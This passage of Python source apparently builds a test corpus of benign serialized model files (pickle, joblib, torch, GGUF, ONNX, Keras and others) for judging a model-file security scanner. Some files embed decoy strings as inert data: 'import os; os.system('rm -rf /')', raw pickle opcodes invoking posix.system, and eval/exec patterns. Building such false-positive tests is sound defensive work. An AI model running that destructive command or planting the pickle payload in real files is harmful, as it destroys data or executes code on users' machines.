            ["an honest text", "os system eval exec"]
        ),
        "selected": feature_selection.SelectKBest(feature_selection.mutual_info_regression, k=2).fit(x, x[:, 0]),
    }
    for name, thing in made.items():
        yield Fair(f"sklearn/{name}.joblib", lambda path, thing=thing: joblib.dump(thing, path), "joblib", "repr(obj)")
    numbers = pipeline.Pipeline(
        [
            ("log", preprocessing.FunctionTransformer(np.log1p, np.expm1, check_inverse=False)),
            ("spline", preprocessing.SplineTransformer(3)),
        ]
    )
    columns = compose.ColumnTransformer(
        [("n", numbers, [0, 1]), ("q", preprocessing.QuantileTransformer(n_quantiles=5, random_state=0), [2])],
        remainder="drop",
        n_jobs=1,
    )
    whole = pipeline.FeatureUnion([("c", columns), ("p", preprocessing.PolynomialFeatures(2))]).fit(np.abs(x))
    for protocol in (2, 4, 5):
        yield Fair(
            f"sklearn/union_protocol{protocol}.pkl",
            pickled(whole, protocol),
            "pickle",
            "import numpy; obj.transform(numpy.ones((2, 3)))",
        )
    for kind, level in (("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
        yield Fair(
            f"joblib/{kind}.joblib",
            lambda path, kind=kind, level=level: joblib.dump({"m": whole, "x": x}, path, compress=(kind, level)),
            "joblib",
        )
    yield Fair(
        "joblib/sparse.joblib",
        lambda path: joblib.dump(
            [
                scipy.sparse.random(9, 9, 0.3, format=kind, random_state=0)
                for kind in ("csr", "csc", "coo", "lil", "dok", "bsr", "dia")
            ],
            path,
        ),
        "joblib",
    )
    target = compose.TransformedTargetRegressor(
        linear_model.Lasso(alpha=0.1), func=np.sinh, inverse_func=np.arcsinh
    ).fit(x, x[:, 0])
    yield Fair(
        "sklearn/target_ufunc.pkl", pickled(target, 4), "pickle", "import numpy; obj.predict(numpy.ones((1, 3)))"
    )


@honest("numpy")
def _arrays():
    import numpy as np

    draw = np.random.default_rng(1)
    fields = np.array([(1, 2.5, b"ab", "é")], dtype=[("n", "<i4"), ("x", ">f8"), ("raw", "S4"), ("name", "U3")])
    things = {
        "structured": fields,
        "record": fields.view(np.recarray),
        "aligned": np.zeros(
            2, np.dtype({"names": ["a", "b"], "formats": ["u1", "f8"], "offsets": [0, 8], "itemsize": 24}, align=False)
        ),
        "dates": np.array(["2020-01-01", "NaT"], "datetime64[D]"),
        "spans": np.array([1, 2], "timedelta64[25us]"),
        "objects": np.array([{"a": [1, None]}, (2.5, "os.system"), b"\x80\x04cos\n"], dtype=object),
        "masked": np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0], fill_value=-1),
        "fortran": np.asfortranarray(draw.normal(size=(3, 4)).astype(">f4")),
        "half_complex": [
            np.float16(1.5),
            np.complex128(1 + 2j),
            np.longdouble(2),
            np.str_("x"),
            np.bool_(True),
            np.void(b"ab"),
        ],
        "strings": np.array(["a", "bc", None], dtype=np.dtypes.StringDType(na_object=None)),
        "matrix": np.asmatrix([[1, 2]]),
        "polynomial": [np.polynomial.Chebyshev([1, 2, 3]), np.poly1d([1, 2])],
        "states": [
            np.random.Generator(np.random.PCG64DXSM(3)),
            np.random.Generator(np.random.Philox(3)),
            np.random.RandomState(4),
            np.random.SeedSequence(5),
            np.random.SFC64(1),
        ],
        "ufuncs": {
            "ufunc": np.add,
            "type": np.float32,
            "dtype": np.dtype("V7"),
            "class": np.ndarray,
            "function": np.linalg.norm,
        },
    }
    for name, thing in things.items():
        yield Fair(f"numpy/{name}.pkl", pickled(thing, 5 if len(name) % 2 else 2), "pickle", "repr(obj)")
    yield Fair("numpy/objects.npy", lambda path: np.save(path, things["objects"], allow_pickle=True), "numpy")
    yield Fair("numpy/structured.npy", lambda path: np.save(path, fields), "numpy")
    yield Fair(
        "numpy/many.npz",
        lambda path: np.savez_compressed(path, a=things["dates"], b=fields, c=things["objects"], d=things["fortran"]),
        "numpy",
        "[obj[k] for k in obj]",
    )


@honest("pandas")
def _frames():
    import pandas as pd

    days = pd.date_range("2024-03-30", periods=3, freq="D", tz="Europe/Berlin")
    frame = pd.DataFrame(
        {
            "c": pd.Categorical(["a", "b", "a"], ordered=True),
            "t": days,
            "i": pd.arrays.IntervalArray.from_breaks([0, 1, 2, 3]),
            "n": pd.array([1, None, 3], dtype="Int16"),
            "b": pd.array([True, None, False], dtype="boolean"),
            "s": pd.array(["x", None, "z"], dtype="string"),
            "p": pd.period_range("2024-01", periods=3, freq="Q"),
            "sp": pd.arrays.SparseArray([0, 0, 1]),
        }
    )
    levels = pd.MultiIndex.from_product([["a", "b"], [1, 2]], names=["k", "n"])
    things = {
        "frame": frame,
        "indexed": pd.Series(range(4), index=levels, dtype="float32"),
        "offsets": [
            pd.offsets.BusinessDay(2),
            pd.Timedelta("1h"),
            pd.Timestamp("2024-01-01", tz="UTC"),
            pd.NaT,
            pd.NA,
            pd.Interval(0, 1),
            pd.Period("2024-02", "M"),
        ],
        "intervals": pd.cut(pd.Series([1, 5, 9]), [0, 3, 6, 10]),
        "spans": pd.DataFrame({"d": pd.to_timedelta([1, 2], unit="h")}, index=pd.RangeIndex(2, 6, 2)),
    }
    for protocol, (name, thing) in zip((5, 4, 2, 3, 5), things.items(), strict=True):
        yield Fair(f"pandas/{name}.pkl", pickled(thing, protocol), "pickle", "repr(obj)")
    yield Fair(
        "pandas/frame.pkl.gz", lambda path: frame.to_pickle(path, compression={"method": "gzip", "mtime": 1}), "pandas"
    )
    yield Fair("pandas/frame.pkl.zip", lambda path: frame.to_pickle(path), "pandas")


@honest("torch")
def _tensors():
    import collections

    import torch
    from torch import nn

    torch.manual_seed(0)
    kinds = [
        torch.float16,
        torch.bfloat16,
        torch.float64,
        torch.int8,
        torch.uint8,
        torch.int64,
        torch.bool,
        torch.complex64,
        torch.float8_e4m3fn,
    ]
    many = collections.OrderedDict(
        (f"layer.{index}", torch.ones(3, dtype=torch.float32).to(kind)) for index, kind in enumerate(kinds)
    )
    base = torch.arange(24.0)
    net = nn.Sequential(nn.Conv1d(1, 2, 3), nn.BatchNorm1d(2), nn.GELU(), nn.Flatten(), nn.Linear(4, 2))
    optimizer = torch.optim.AdamW(net.parameters(), lr=0.1, amsgrad=True)
    net(torch.ones(2, 1, 4)).sum().backward()
    optimizer.step()
    schedule = torch.optim.lr_scheduler.OneCycleLR(optimizer, 0.2, total_steps=5)
    quantised = torch.quantize_per_tensor(base, 0.1, 0, torch.qint8)
    things = {
        "dtypes": many,
        "views": {
            "a": base.view(4, 6)[1:3, ::2],
            "b": base.as_strided((2, 3), (6, 1), 2),
            "c": base.T,
            "scalar": torch.tensor(3),
            "empty": torch.empty(0, 3),
        },
        "training": {
            "model": net.state_dict(),
            "optimizer": optimizer.state_dict(),
            "schedule": schedule.state_dict(),
            "epoch": 3,
            "rng": torch.get_rng_state(),
            "args": {"lr": 0.1, "name": "os.system"},
        },
        "sparse": {"coo": torch.eye(3).to_sparse(), "csr": torch.eye(3).to_sparse_csr()},
        "parameters": [
            nn.Parameter(torch.ones(2)),
            nn.Buffer(torch.zeros(1)),
            torch.Size([1, 2]),
            torch.device("cpu"),
            torch.float16,
        ],
        "quantised": {"q": quantised},
        "module": net,
        "rnn": nn.LSTM(2, 3, num_layers=2, bidirectional=True),
        "transformer": nn.TransformerEncoderLayer(4, 2, 8, batch_first=True),
        "optimizer_object": optimizer,
        "meta": {
            "m": torch.empty(2, device="meta"),
            "c": torch.conj(torch.ones(2, dtype=torch.complex64)),
            "grad": torch.ones(1, requires_grad=True),
        },
    }
    for index, (name, thing) in enumerate(things.items()):
        new = index % 3 != 1
        yield Fair(
            f"torch/{name}.pt",
            lambda path, thing=thing, new=new: torch.save(thing, path, _use_new_zipfile_serialization=new),
            "torch",
            "repr(obj)",
        )
    yield Fair("torch/protocol5.bin", lambda path: torch.save(many, path, pickle_protocol=5), "torch")
    yield Fair(
        "torch/traced.pt",
        lambda path: torch.jit.save(torch.jit.trace(net.eval(), torch.ones(1, 1, 4)), path),
        "torch.jit",
        "import torch; obj(torch.ones(1, 1, 4))",
    )
    yield Fair("torch/big_state.pth", pickled({"state": {"step": 1}, "best": float("inf")}, 2), "pickle")


@honest()
def _plain():
    import array
    import collections
    import datetime
    import decimal
    import enum
    import fractions
    import functools
    import ipaddress
    import operator
    import random
    import re
    import uuid

    day = datetime.datetime(2024, 2, 29, 12, tzinfo=datetime.timezone(datetime.timedelta(hours=2), "X"))
    values = {
        "times": [day, day.date(), day.timetz(), datetime.timedelta(1, 2, 3), datetime.UTC],
        "numbers": [
            decimal.Decimal("1.50"),
            fractions.Fraction(1, 3),
            1 << 300,
            -1,
            1e-300,
            complex(1, 2),
            float("nan"),
            True,
            None,
            ...,
        ],
        "containers": [
            collections.Counter("abca"),
            collections.deque([1], 3),
            collections.defaultdict(list, {"a": [1]}),
            collections.ChainMap({"a": 1}),
            frozenset({1}),
            bytearray(b"os\nsystem"),
            range(3),
            slice(1, 2),
        ],
        "identifiers": [
            uuid.UUID(int=5),
            ipaddress.ip_network("10.0.0.0/8"),
            re.compile("eval|exec", re.I),
            random.Random(3),
            enum.Enum,
        ],
        "words": {
            "description": "import os; os.system('rm -rf /')",
            "template": "{{ messages }}",
            "code": "cposix\nsystem\n(S'id'\ntR.",
        },
        "array": array.array("d", [1.5, 2.5]),
        "callables": [operator.itemgetter("a"), functools.partial(int, base=2), len, str.lower, sorted],
    }
    loop: list = [1]
    loop.append(loop)
    values["loop"] = [loop, {"self": loop}]
    for protocol, (name, thing) in enumerate(values.items()):
        yield Fair(f"plain/{name}.pkl", pickled(thing, protocol % 6), "pickle", "repr(obj)")
    turns = "{%- if tools %}{{ tools | tojson(indent=2) }}{% endif %}{% set ns = namespace(last='') %}{% for m in messages %}{% if m.role not in ['user', 'assistant', 'system'] %}{{ raise_exception('role') }}{% endif %}<|{{ m['role'] }}|>\n{{ m['content'] | trim }}{{ eos_token }}{% set ns.last = m.role %}{% endfor %}{% if add_generation_prompt and ns.last != 'assistant' %}<|assistant|>\n{% endif %}"
    pairs = {
        "general.architecture": "llama",
        "general.name": "small",
        "general.license": "apache-2.0",
        "tokenizer.chat_template": turns,
    }
    yield Fair("gguf/template.gguf", lambda path: path.write_bytes(_gguf(pairs)), "gguf")
    yield Fair(
        "gguf/second_version.gguf",
        lambda path: path.write_bytes(_gguf({**pairs, "tokenizer.chat_template.tool_use": turns}, 2)),
        "gguf",
    )
    yield Fair(
        "hub/tokenizer_config.json",
        lambda path: path.write_text(
            json.dumps({"chat_template": turns, "eos_token": "</s>", "model_max_length": 10**30})
        ),
        "tokenizer",
    )
    yield Fair(
        "hub/listed/tokenizer_config.json",
        lambda path: path.write_text(
            json.dumps(
                {"chat_template": [{"name": "default", "template": turns}, {"name": "tool_use", "template": turns}]}
            )
        ),
        "tokenizer",
    )
    yield Fair("hub/chat_template.jinja", lambda path: path.write_text(turns), "jinja")
    pieces = {
        "version": "1.0",
        "added_tokens": [],
        "normalizer": None,
        "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False, "trim_offsets": True, "use_regex": True},
        "post_processor": None,
        "decoder": {"type": "ByteLevel", "add_prefix_space": True, "trim_offsets": True, "use_regex": True},
        "model": {
            "type": "BPE",
            "dropout": None,
            "unk_token": None,
            "continuing_subword_prefix": None,
            "end_of_word_suffix": None,
            "fuse_unk": False,
            "byte_fallback": False,
            "vocab": {"o": 0, "s": 1, "os": 2, "eval": 3, "__import__": 4},
            "merges": ["o s"],
        },
    }
    yield Fair("hub/tokenizer.json", lambda path: path.write_text(json.dumps(pieces)), "json")
    header = json.dumps(
        {
            "__metadata__": {
                "format": "pt",
                "modelspec.title": "lora",
                "ss_tag_frequency": json.dumps({"a": {"system prompt": 3}}),
                "ss_network_args": "{}",
            },
            "w": {"dtype": "BF16", "shape": [2, 1], "data_offsets": [0, 4]},
        }
    ).encode()
    header += b" " * (-len(header) % 8)
    yield Fair(
        "safetensors/metadata.safetensors",
        lambda path: path.write_bytes(struct.pack("<Q", len(header)) + header + b"\0\0\x80?"),
        "safetensors",
    )
    yaml = "model:\n  _target_: torch.nn.Linear\n  in_features: 2\n  out_features: 1\n"
    yield Fair(
        "nemo/model.nemo",
        lambda path: path.write_bytes(
            _tar(
                [("./model_config.yaml", yaml.encode()), ("./model_weights.ckpt", _torch_zip(pickle.dumps({}, 2)))],
                packed=True,
            )
        ),
        "hydra",
    )
    scores = '<?xml version="1.0"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="a &amp; b"/><DataDictionary numberOfFields="1"><DataField name="x" optype="continuous" dataType="double"/></DataDictionary></PMML>\n'
    yield Fair("pmml/model.pmml", lambda path: path.write_text(scores), "xml")
    yield Fair(
        "savedmodel/saved_model.pb",
        lambda path: path.write_bytes(_saved([_string("n", "eval"), _node("i", "Identity", "n", T=_field(6, 7))])),
        "savedmodel",
        "i:0",
    )


@honest("cloudpickle")
def _cloud():
    import cloudpickle

    yield Fair(
        "cloudpickle/data.pkl",
        lambda path: path.write_bytes(cloudpickle.dumps({"a": [1, 2.5], "b": ("x", None)})),
        "pickle",
    )


@honest("onnx")
def _onnxes():
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weights = numpy_helper.from_array(np.arange(400, dtype=np.float32).reshape(20, 20), "w")
    into = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 20])
    out = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 20])
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g", [into], [out], [weights])
    opsets = [helper.make_opsetid("", 17)]
    model = helper.make_model(graph, opset_imports=opsets, ir_version=8)
    yield Fair(
        "onnx/inside/model.onnx",
        lambda path: onnx.save_model(
            onnx.ModelProto.FromString(model.SerializeToString()),
            path,
            save_as_external_data=True,
            location="weights.bin",
            size_threshold=0,
        ),
        "onnx",
    )
    yield Fair("onnx/plain.onnx", lambda path: onnx.save_model(model, path), "onnx")
    branch = helper.make_graph(
        [helper.make_node("Identity", ["w"], ["b"])],
        "then",
        [],
        [helper.make_tensor_value_info("b", TensorProto.FLOAT, None)],
    )
    chosen = helper.make_node("If", ["c"], ["z"], then_branch=branch, else_branch=branch)
    nested = helper.make_graph(
        [chosen],
        "g",
        [helper.make_tensor_value_info("c", TensorProto.BOOL, [])],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, None)],
        [weights],
    )
    yield Fair(
        "onnx/branches.onnx",
        lambda path: onnx.save_model(helper.make_model(nested, opset_imports=opsets, ir_version=8), path),
        "onnx",
    )


@honest("skl2onnx", "sklearn")
def _converted():
    import numpy as np
    from skl2onnx import to_onnx
    from sklearn.ensemble import RandomForestClassifier

    x = np.random.default_rng(0).normal(size=(20, 3)).astype(np.float32)
    forest = RandomForestClassifier(3, random_state=0).fit(x, (x[:, 0] > 0).astype(int))
    yield Fair("onnx/forest.onnx", lambda path: path.write_bytes(to_onnx(forest, x[:1]).SerializeToString()), "onnx")


@honest("lightgbm", "sklearn")
def _lightgbms():
    import lightgbm
    import numpy as np

    x = np.random.default_rng(0).normal(size=(60, 3))
    model = lightgbm.LGBMClassifier(n_estimators=2, verbose=-1, n_jobs=1).fit(x, x[:, 0] > 0)
    yield Fair("lightgbm/model.txt", lambda path: model.booster_.save_model(path), "lightgbm")
    yield Fair("lightgbm/model.pkl", pickled(model, 4), "pickle", "repr(obj)")


@honest("xgboost", "sklearn")
def _xgboosts():
    import numpy as np
    import xgboost

    x = np.random.default_rng(0).normal(size=(60, 3))
    model = xgboost.XGBClassifier(n_estimators=2, n_jobs=1).fit(x, (x[:, 0] > 0).astype(int))
    yield Fair("xgboost/model.ubj", lambda path: model.save_model(path), "xgboost")
    yield Fair("xgboost/model.json", lambda path: model.save_model(path), "xgboost")
    yield Fair("xgboost/model.pkl", pickled(model, 5), "pickle", "repr(obj)")


@honest("skops", "sklearn")
def _skops_files():
    import numpy as np
    from skops import io as skops
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.random.default_rng(0).normal(size=(20, 2))
    yield Fair(
        "skops/pipeline.skops",
        lambda path: skops.dump(
            make_pipeline(StandardScaler(), LogisticRegression()).fit(x, (x[:, 0] > 0).astype(int)), path
        ),
        "skops",
    )


@honest("dill")
def _dills():
    import datetime

    import dill

    yield Fair(
        "dill/data.pkl",
        lambda path: path.write_bytes(dill.dumps({"a": [1, 2.5, datetime.date(2024, 1, 1)], "b": {"x"}})),
        "pickle",
    )


@honest("keras", "h5py")
def _keras_files():
    import keras

    keras.utils.set_random_seed(0)
    model = keras.Sequential(
        [
            keras.layers.Input((4,)),
            keras.layers.Dense(3, "gelu", kernel_regularizer="l2"),
            keras.layers.LayerNormalization(),
            keras.layers.Dense(1),
        ]
    )
    model.compile("adam", "mse")
    yield Fair("keras/dense.keras", lambda path: model.save(path), "keras")
    yield Fair("keras/dense.h5", lambda path: model.save(path), "keras")
    yield Fair("keras/dense.weights.h5", lambda path: model.save_weights(path), "h5")


# --- all ---------------------------------------------------------------------------------------------------------


def _missing(needed: tuple[str, ...]) -> bool:
    import importlib.util

    return any(importlib.util.find_spec(one) is None for one in needed)


def build(folder: Path) -> list[Made]:
    """Every file, below the folder; what needs a library that is not installed is left out, and is all honest."""
    made = []
    for label, (held, rows) in FAMILIES.items():
        for row in rows():
            path = folder / "malicious" / label.replace(" ", "_") / row.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(row.content)
            made.append(
                Made(path, True, label, row.loader, row.mechanism, row.source, held, row.use, row.proven, row.reason)
            )
    for needed, fairs in HONEST_SOURCES:
        if _missing(needed):
            continue
        for index, fair in enumerate(fairs()):
            path = folder / "honest" / fair.name
            path.parent.mkdir(parents=True, exist_ok=True)
            fair.write(path)
            made.append(Made(path, False, fair.name.split("/")[0], fair.loader, (), "", bool(index % 2), fair.use))
    return made


def main() -> None:
    """Writes the corpus below the folder that is named, and counts it."""
    import collections
    import sys

    made = build(Path(sys.argv[1]))
    for malicious in (True, False):
        counts = collections.Counter((one.family, one.held) for one in made if one.malicious is malicious)
        for (label, held), count in counts.items():
            print(f"{'malicious' if malicious else 'honest':10}{count:4}  {'held' if held else '    '}  {label}")
    print(
        len([one for one in made if one.malicious]),
        "malicious,",
        len([one for one in made if not one.malicious]),
        "honest",
    )


if __name__ == "__main__":
    main()
